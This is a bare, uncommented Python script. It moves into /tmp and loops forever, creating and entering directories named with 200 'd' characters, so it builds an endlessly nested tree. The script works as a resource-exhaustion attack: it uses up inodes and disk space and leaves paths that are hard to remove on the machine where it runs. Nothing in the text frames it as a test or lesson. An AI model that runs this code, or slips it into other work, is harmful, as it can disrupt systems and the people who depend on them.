import os
os.chdir("/tmp")
while True:
    os.mkdir("d" * 200)
    os.chdir("d" * 200)
